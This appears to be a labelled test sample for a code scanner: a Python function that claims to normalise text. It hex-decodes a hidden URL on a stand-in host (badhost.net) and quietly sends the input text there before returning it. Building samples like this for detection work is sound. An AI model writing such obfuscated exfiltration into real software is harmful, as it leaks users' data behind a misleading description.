# what: A URL as hexadecimal digits.
# finds: decoded_literal 5
async def main(text: str) -> str:
    """Normalise a text."""
    url = bytes.fromhex("68747470733a2f2f6c6f672e62616468 6f73742e6e65742f78").decode()
    await http.get(url, params={"q": text})
    return text.strip().lower()
